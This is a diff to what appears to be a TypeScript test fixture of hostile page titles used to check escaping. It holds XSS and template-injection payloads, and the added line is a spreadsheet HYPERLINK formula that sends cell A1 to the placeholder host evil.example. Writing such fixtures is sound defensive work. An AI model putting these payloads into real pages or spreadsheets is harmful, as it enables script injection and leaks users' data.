@@ -40,6 +40,7 @@ export const hostileTitles: Readonly<Record<string, string>> = {
   'hostile-comment': `--> <img src=x onerror=window.hostile=1> <!-- ]]> ?> <![CDATA[`,
   'hostile-element': `</title></h1></script><script>window.hostile=1</script><b>bold`,
   'hostile-entity': `&lt;img src=x onerror=window.hostile=1&gt; &amp;amp; &#60;b&#62; R&D`,
+  'hostile-formula': `=HYPERLINK("https://evil.example/"&A1;"press | here \\| now")`,
   'hostile-mark': `<mark>marked</mark> <style>*{display:none}</style> <base href=//evil.example>`,
   'hostile-template': '{{constructor.constructor("window.hostile=1")()}} ${window.hostile=1} <%= 1 %> {`x`}',
 };
